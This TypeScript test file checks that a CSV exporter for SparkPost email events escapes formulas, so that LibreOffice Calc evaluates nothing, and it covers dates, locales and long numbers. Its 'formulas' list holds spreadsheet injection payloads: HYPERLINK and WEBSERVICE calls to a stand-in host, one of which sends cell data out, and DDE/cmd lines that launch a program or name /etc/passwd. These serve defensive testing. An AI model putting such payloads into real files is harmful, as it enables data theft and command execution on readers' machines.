import { createReadStream } from "node:fs";
import { readdir, readFile, writeFile } from "node:fs/promises";
import { join } from "node:path";
import { createInterface } from "node:readline";
import { beforeAll, describe, expect, onTestFinished, test } from "vitest";
import type { EventSource } from "../../src/sandbox/event-source.js";
import { generateEvents } from "../../src/sandbox/generated-events.js";
import { stringifyJson } from "../../src/sandbox/json-text.js";
import { startSandbox } from "../../src/sandbox/server.js";
import { newFolder, runCommand } from "../support/command.js";
import { escapedJson, escapedText } from "../support/escaped-text.js";
import { eventList } from "../support/event-list.js";
import { randomNumbers, seed } from "../support/random-numbers.js";
import {
  type Cell,
  calcVersion,
  type ImportSettings,
  importDefaults,
  openInCalc,
  rewriteInCalc,
  type Surroundings,
} from "./calc.js";

const env = { SPARKPOST_API_KEY: "0123456789abcdef0123456789abcdef01234567" };
const zone = "America/New_York";
/** Clocks in that zone went back at 06:00 UTC. */
const clockChange = Date.parse("2026-11-01T06:00:00Z");
const now = Date.parse("2026-11-06T12:00:00Z");
const range = ["2026-10-27T00:00Z", "2026-11-06T11:59Z", "--retention", "unlimited"];
const times = ["timestamp", "injection_time"];
const columns = [
  ...times,
  "type",
  "event_id",
  "message_id",
  "rcpt_to",
  "campaign_id",
  "subject",
  "user_agent",
  "raw_reason",
  "customer_id",
  "rcpt_meta",
  "rcpt_tags",
  "geo_ip",
  "geo_ip.latitude",
];

/** Texts that a spreadsheet would run. */
const formulas = [
  "=1+1",
  '=HYPERLINK("http://192.0.2.1/?"&A1,"click")',
  "=cmd|' /C calc'!A0",
  '=WEBSERVICE("http://192.0.2.1/")',
  '=DDE("soffice";"/etc/passwd";"x")',
  "+1+1",
  "-2+3",
  "@SUM(A1:A2)",
  "\t=1+1",
  "\r=1+1",
  "＝1+1",
  "＋1+1",
  "－1+1",
  "＠SUM(1)",
  "=1+1\n=2+2",
  '="a",=1+1',
  "-",
  "x;=1+41;y",
  "x,=1+41,y",
  "x\t=1+41\ty",
  "x|=1+41|y",
  'x; "=1+41";y',
];

/** Texts that look like something else. */
const lookalikes = [
  "00123",
  "92356927693813856",
  "1e5",
  "12:30",
  "3/4",
  "2026-11-19",
  "1,234.5",
  "10%",
  "$5",
  "TRUE",
  " 42 ",
];

const texts = [
  ...formulas.map((formula) => `Re: ${formula}`),
  "emoji 😀 👩‍👩‍👧‍👦 🏳️‍🌈, one after the other",
  "é ü ß 漢字 عربى עברית ไทย",
  "a line\nand another\n\nand one more\n",
  "a line\r\nand another",
  'say "hi", "", """',
  "a,b;c\td|e",
  "'apostrophe",
  "  spaces   in front,   within   and behind  ",
  "\u00a0no-break\u00a0space, \u2028 and \u200b",
  "<b>&amp; \\n %00 $x {{y}}",
  `20 kB: ${'Größe, "x"\n'.repeat(1_800)}`,
  "x".repeat(32_000),
  "",
];

/** One event per text, in several of its properties, around a clock change. */
function nastyEvents(values: readonly string[]): EventSource {
  return eventList(
    values.map((value, index) => ({
      type: "click",
      timestamp: new Date(clockChange + (index - values.length / 2) * 601_000 + 7).toISOString(),
      injection_time: new Date(clockChange + (index - 9) * 3_600_000 + 999).toISOString(),
      event_id: `92356927693813${String(index).padStart(3, "0")}`,
      message_id: `000${index}e5`,
      rcpt_to: `"x${value.slice(0, 9)}"@example.com`,
      campaign_id: value,
      subject: value,
      user_agent: value,
      raw_reason: value,
      customer_id: index,
      rcpt_meta: { value, nested: { list: [value, 1, null] } },
      rcpt_tags: [value],
      geo_ip: { country: "DE", latitude: -1.5 },
    })),
  );
}

async function startAccount(source: EventSource): Promise<string> {
  const sandbox = await startSandbox({ source, now: () => now });
  onTestFinished(() => sandbox.close());
  return sandbox.origin;
}

/** Exports to `a.csv`, unless more is said. */
async function exportTo(cwd: string, host: string, ...more: string[]) {
  const args = ["--host", host, "--timezone", zone, "-p", columns.join(","), "-o", "a.csv"];
  const { code, stderr } = await runCommand([...range, ...args, ...more], {
    cwd,
    env: { ...env, CLOCK: new Date(now).toISOString() },
    launcher: "dated",
  });
  expect(code, stderr).toBe(0);
}

async function exportAll(source: EventSource, ...more: string[]) {
  const cwd = await newFolder();
  await exportTo(cwd, await startAccount(source), ...more);
  return cwd;
}

function localSeconds(time: string): string {
  const parts = new Intl.DateTimeFormat("en-US", {
    timeZone: zone,
    hourCycle: "h23",
    year: "numeric",
    month: "2-digit",
    day: "2-digit",
    hour: "2-digit",
    minute: "2-digit",
    second: "2-digit",
  }).formatToParts(new Date(time));
  const { year, month, day, hour, minute, second } = Object.fromEntries(
    parts.map(({ type, value }) => [type, value]),
  );
  return `${year}-${month}-${day}T${hour}:${minute}:${second}`;
}

/**
 * The text that a cell must hold: with an apostrophe before what begins a formula. Lines of a cell have
 * no kinds of line breaks.
 */
function expectedText(name: string, event: Record<string, unknown>): string {
  const value = propertyOf(name, event);
  if (value === undefined || value === null) {
    return "";
  }
  if (typeof value === "object") {
    return escapedJson(stringifyJson(value));
  }
  const text = typeof value === "string" ? escapedText(value.toWellFormed()) : String(value);
  return text.replaceAll(/\r\n?/g, "\n");
}

function propertyOf(name: string, event: Record<string, unknown>): unknown {
  return name
    .split(".")
    .reduce<unknown>((value, key) => (value as Record<string, unknown> | undefined)?.[key], event);
}

/** The number that Calc takes a text for in a locale, even where it detects nothing special; or NaN. */
function numberIn(text: string, locale: Surroundings["locale"]): number {
  const [form, thousands, point] =
    locale === "en-US"
      ? ([/^[+-]?\d+(,\d{3})*(\.\d*)?(e[+-]?\d+)?$/i, ",", "."] as const)
      : ([/^[+-]?\d+(\.\d{3})*(,\d*)?(e[+-]?\d+)?$/i, ".", ","] as const);
  const digits = text.trim();
  return form.test(digits)
    ? Number(digits.replaceAll(thousands, "").replace(point, "."))
    : Number.NaN;
}

interface Expectation {
  readonly locale: Surroundings["locale"];
  /** `dates`: cells with a date; `texts`: what is in the file, as text. */
  readonly times: "dates" | "texts";
  readonly timeOf: (time: string) => string;
  /** Whether every column but the times is of the type Text. */
  readonly asText: boolean;
}

/** What Calc makes of an export by default. */
const byDefault: Expectation = {
  locale: "en-US",
  times: "texts",
  timeOf: (time) => localSeconds(time).replace("T", " "),
  asText: false,
};

/** Compares and counts; the first differences are enough to see what is wrong. */
class Comparison {
  readonly counts: Record<string, number> = {};
  readonly wrong: object[] = [];
  readonly changed = new Set<string>();
  readonly #expectation: Expectation;

  constructor(expectation: Partial<Expectation> = {}) {
    this.#expectation = { ...byDefault, ...expectation };
  }

  compare(
    source: EventSource,
    rows: readonly Cell[][] = [],
    { first = 0, count = source.length } = {},
  ): void {
    expect(rows.length).toBe(count + 1);
    for (const row of rows) {
      // What fell apart would be in further columns.
      expect(row.slice(columns.length).filter(({ value }) => value !== "")).toEqual([]);
    }
    expect(rows[0]?.slice(0, columns.length).map(({ value }) => value)).toEqual(columns);
    for (const [index, row] of rows.slice(1).entries()) {
      const event = source.event(first + index);
      for (const [column, name] of columns.entries()) {
        const cell = row[column] ?? { type: "", value: "", formula: undefined };
        const kind = this.#judge(cell, name, event);
        this.#count(kind ?? "wrong");
        if (kind === undefined && this.wrong.length < 5) {
          const sent = propertyOf(name, event);
          this.wrong.push({ row: first + index, name, sent, cell });
        }
      }
    }
  }

  /** The kind of a cell that is right. */
  #judge(cell: Cell, name: string, event: Record<string, unknown>): string | undefined {
    const { locale, times: timesAre, timeOf, asText } = this.#expectation;
    if (cell.formula !== undefined) {
      return undefined;
    }
    const value = propertyOf(name, event);
    if (times.includes(name) && typeof value === "string") {
      return timesAre === "dates"
        ? this.#if(cell.type === "date" && cell.value === localSeconds(value), "dates")
        : this.#if(cell.type === "string" && cell.value === timeOf(value), "times as text");
    }
    const text = expectedText(name, event);
    if (cell.type === (text === "" ? "" : "string") && cell.value === text) {
      return typeof value === "number" && !asText
        ? this.#if(Number.isNaN(numberIn(text, locale)), "numbers that the locale does not know")
        : this.#if(true, text === "" ? "blanks" : "texts");
    }
    if (asText) {
      return undefined;
    }
    // The file that Calc writes has fifteen digits.
    const number = numberIn(text, locale);
    const difference = Math.abs(Number(cell.value) - number);
    if (cell.type === "float" && difference <= 1e-14 * Math.abs(number)) {
      if (typeof value === "number") {
        return value === Number(cell.value) ? "numbers" : "numbers that the locale misreads";
      }
      this.changed.add(text);
      return "texts that look like numbers, and became some";
    }
    if (cell.type === "date" && cell.value === `${text}T00:00:00`) {
      this.changed.add(text);
      return "texts that look like dates, and became some";
    }
    if (timesAre === "dates" && typeof value === "string" && lookalike.test(text)) {
      this.changed.add(text);
      return "texts that look like something else, and became that";
    }
    return undefined;
  }

  #if(isRight: boolean, kind: string): string | undefined {
    return isRight ? kind : undefined;
  }

  #count(kind: string): void {
    this.counts[kind] = (this.counts[kind] ?? 0) + 1;
  }

  conclude(what: string): void {
    const counts = Object.entries(this.counts)
      .map(([kind, count]) => `${count.toLocaleString("en-US")} ${kind}`)
      .join(", ");
    console.log(`${what}: ${counts}`);
    if (this.changed.size > 0) {
      console.log(`  for example ${[...this.changed].slice(0, 12).join("   ")}`);
    }
    expect(this.wrong).toEqual([]);
  }
}

/** What Calc takes for something other than text where it detects special numbers. */
const lookalike = /^[\s\d.,:/%$e+-]+$|^(true|false)$/i;

let defaults: ImportSettings;

beforeAll(async () => {
  console.log(await calcVersion());
  defaults = await importDefaults();
  console.log(`Its dialog's defaults: ${JSON.stringify(defaults)}`);
});

const nasty = nastyEvents([...formulas, ...texts]);
const nastier = nastyEvents([...formulas, ...texts, ...lookalikes]);
const madeUp = generateEvents({ events: 5_000, seed: 7, now });
const textColumns = columns.flatMap((name, index) => (times.includes(name) ? [] : [index + 1]));
const locales = ["en-US", "de-DE"] as const;

test("Calc's dialog splits at tab, comma and semicolon, and detects nothing special", () => {
  expect([...defaults.separators].sort()).toEqual(["\t", ",", ";"]);
  expect(defaults).toMatchObject({ textDelimiter: '"', detectSpecialNumbers: false });
});

describe("Calc opens an export made with --excel", () => {
  test("which says that it is UTF-8", async () => {
    const cwd = await exportAll(nasty, "--excel");
    const csv = await readFile(join(cwd, "a.csv"));
    expect([...csv.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect(csv.lastIndexOf("\ufeff")).toBe(0);
  });

  describe.each(locales)("by default, where the locale is %s", (locale) => {
    test.each([",", ";", "tab", "|"])("and finds columns and texts, with %s", async (delimiter) => {
      for (const source of [nastier, madeUp]) {
        const folder = await exportAll(source, "--excel", "--csv-delimiter", delimiter);
        // A bar is none of the separators that the dialog begins with.
        const separators = delimiter === "|" ? ["|"] : defaults.separators;
        const csv = join(folder, "a.csv");
        const [rows] = await openInCalc([csv], { folder, locale }, { ...defaults, separators });
        const comparison = new Comparison({ locale });
        comparison.compare(source, rows);
        comparison.conclude(`${source.length} events, --csv-delimiter ${delimiter}, ${locale}`);
      }
    });
  });

  test("and has dates as dates, where it detects special numbers", async () => {
    const folder = await exportAll(nasty, "--excel");
    const settings = { ...defaults, detectSpecialNumbers: true, evaluateFormulas: true };
    for (const locale of locales) {
      const comparison = new Comparison({ locale, times: "dates" });
      const [rows] = await openInCalc([join(folder, "a.csv")], { folder, locale }, settings);
      comparison.compare(nasty, rows);
      comparison.conclude(`Strangers' texts, special numbers detected, ${locale}`);
      expect(comparison.counts.dates).toBe(2 * nasty.length);
    }
  });

  test("and keeps every digit in columns of the type Text", async () => {
    const folder = await exportAll(nastier, "--excel");
    for (const locale of locales) {
      const surroundings = { folder, locale };
      const csv = join(folder, "a.csv");
      const [rows] = await openInCalc([csv], surroundings, defaults, textColumns);
      const comparison = new Comparison({ locale, asText: true });
      comparison.compare(nastier, rows);
      comparison.conclude(`Strangers' texts and long numbers, columns of the type Text, ${locale}`);
    }
  });

  test("and has made-up events of every type, in several files", async () => {
    const folder = await exportAll(madeUp, "--excel", "--split-rows", "2000");
    const names = ["a.csv", "a-2.csv", "a-3.csv"];
    expect((await readdir(folder)).sort()).toEqual([...names].sort());
    const csvs = names.map((name) => join(folder, name));
    const sheets = await openInCalc(csvs, { folder, locale: "en-US" }, defaults);
    const comparison = new Comparison();
    for (const [index, rows] of sheets.entries()) {
      const part = { first: index * 2_000, count: index < 2 ? 2_000 : 1_000 };
      comparison.compare(madeUp, rows, part);
    }
    comparison.conclude("5,000 events in three files");
  });

  test("and loses no row of more events than a sheet has rows", async () => {
    const source = generateEvents({ events: 1_048_577, seed: 7, now });
    const cwd = await exportAll(source, "--excel", "-p", "event_id,type");
    expect((await readdir(cwd)).sort()).toEqual(["a-2.csv", "a.csv"]);
    const surroundings = { folder: await newFolder(), locale: "en-US" } as const;
    const rows: number[] = [];
    for (const name of ["a.csv", "a-2.csv"]) {
      const rewritten = await rewriteInCalc(join(cwd, name), surroundings, defaults);
      rows.push(await countLines(rewritten));
    }
    console.log(`1,048,577 events: sheets of ${rows.join(" and ")} rows`);
    expect(rows).toEqual([1_048_576, 3]);
  });
});

describe.each(locales)("Calc opens a plain export under its own separator, in %s", (locale) => {
  test.each([",", ";", "tab", "|"])("%s", async (delimiter) => {
    const folder = await exportAll(
      nastier,
      "--csv-delimiter",
      delimiter,
      "--timestamp-format",
      "raw",
    );
    const separators = [delimiter === "tab" ? "\t" : delimiter];
    const csv = join(folder, "a.csv");
    const [rows] = await openInCalc([csv], { folder, locale }, { ...defaults, separators });
    const comparison = new Comparison({ locale, timeOf: (time) => time });
    comparison.compare(nastier, rows);
    comparison.conclude(`Plain export, --csv-delimiter ${delimiter}, ${locale}`);
  });
});

describe(`Calc finds no formula in what strangers wrote, wherever it splits (SEED=${seed})`, () => {
  const separators = [",", ";", "\t", "|"];
  const subsets = Array.from({ length: 2 ** separators.length }, (_, bits) =>
    separators.filter((_, index) => bits & (1 << index)),
  ).slice(1);
  const before = [...separators, "\n", "\r", " ", '"', "\0", "'"];
  const prefixes = [""];
  for (const prefix of prefixes) {
    if (prefix.length < 3) {
      prefixes.push(...before.map((one) => prefix + one));
    }
  }

  /** Every short beginning of a formula, and random texts of what they are made of. */
  function hostileEvents(): EventSource {
    const random = randomNumbers(seed);
    const parts = [...before, "=", "=1+1", "x", "+1", "-1", "＝1+1", "\\"];
    const anyText = () =>
      Array.from({ length: random(12) }, () => parts[random(parts.length)]).join("");
    const all = [...prefixes, ...prefixes.map(() => anyText())];
    return eventList(
      all.map((prefix, index) => ({
        type: "click",
        timestamp: new Date(now - 86_400_000 + index).toISOString(),
        event_id: String(index),
        subject: `${prefix}=1+41;y`,
        user_agent: `x${prefix}=1+41`,
        raw_reason: `x${prefix}=1+41"${anyText()}`,
        rcpt_meta: { [`${anyText()}`]: `${prefix}=1+41"`, b: -5 },
        rcpt_tags: [`x${prefix}`, `=1+41${prefix}`, anyText()],
      })),
    );
  }

  const properties = ["-p", "subject,user_agent,raw_reason,rcpt_meta,rcpt_tags"];

  async function exportHostile(...more: string[]) {
    const host = await startAccount(hostileEvents());
    const folder = await newFolder();
    const csvs: string[] = [];
    for (const [index, delimiter] of [",", ";", "tab", "|"].entries()) {
      for (const dialect of [[], ["--excel"]]) {
        const name = `${index}${dialect.join("")}.csv`;
        const format = ["--csv-delimiter", delimiter, ...dialect];
        await exportTo(folder, host, ...properties, ...format, "-o", name, ...more);
        csvs.push(join(folder, name));
      }
    }
    return { folder, csvs };
  }

  test("with any separators, evaluating formulas, and trimming", {
    timeout: 3_600_000,
  }, async () => {
    const { folder, csvs } = await exportHostile();
    let cells = 0;
    for (const subset of subsets) {
      for (const removeSpace of [false, true]) {
        const settings = { ...defaults, separators: subset, evaluateFormulas: true, removeSpace };
        const sheets = await openInCalc(csvs, { folder, locale: "en-US" }, settings);
        for (const [index, rows] of sheets.entries()) {
          const found = rows.flat().filter(({ formula }) => formula !== undefined);
          expect(found.slice(0, 5), `${csvs[index]} at ${JSON.stringify(subset)}`).toEqual([]);
          cells += rows.flat().length;
        }
      }
    }
    console.log(`no formula in ${cells.toLocaleString("en-US")} cells`);
  });

  test.each(locales)("by default, in %s", async (locale) => {
    const { folder, csvs } = await exportHostile();
    for (const rows of await openInCalc(csvs, { folder, locale }, defaults)) {
      expect(rows.flat().filter(({ formula }) => formula !== undefined)).toEqual([]);
    }
  });

  test("which it does without the apostrophes", async () => {
    const { folder, csvs } = await exportHostile("--no-escape-formulas");
    const settings = { ...defaults, evaluateFormulas: true };
    const sheets = await openInCalc(csvs, { folder, locale: "en-US" }, settings);
    const found = sheets.map((rows) => rows.flat().filter(({ formula }) => formula).length);
    expect(Math.min(...found)).toBeGreaterThan(10);
  });
});

test("The check finds what is wrong with a file", async () => {
  const source = nastyEvents(["=1+1", "a", "b", "c"]);
  const folder = await newFolder();
  const bad = (column: string, row: number) =>
    ({
      timestamp: row === 1 ? "yesterday" : "2026-11-01 01:00:00",
      campaign_id: row === 3 ? "=1+1" : "Ã©",
    })[column] ?? "";
  const rows = [0, 1, 2, 3].map((row) => columns.map((column) => bad(column, row)).join(","));
  const csv = join(folder, "a.csv");
  await writeFile(csv, `\ufeff${columns.join(",")}\r\n${rows.join("\r\n")}\r\n`);
  const comparison = new Comparison();
  const settings = { ...defaults, evaluateFormulas: true };
  const [opened] = await openInCalc([csv], { folder, locale: "en-US" }, settings);
  comparison.compare(source, opened);
  expect(comparison.counts.wrong).toBeGreaterThan(8);
});

async function countLines(path: string): Promise<number> {
  let lines = 0;
  for await (const _ of createInterface({ input: createReadStream(path) })) {
    lines += 1;
  }
  return lines;
}
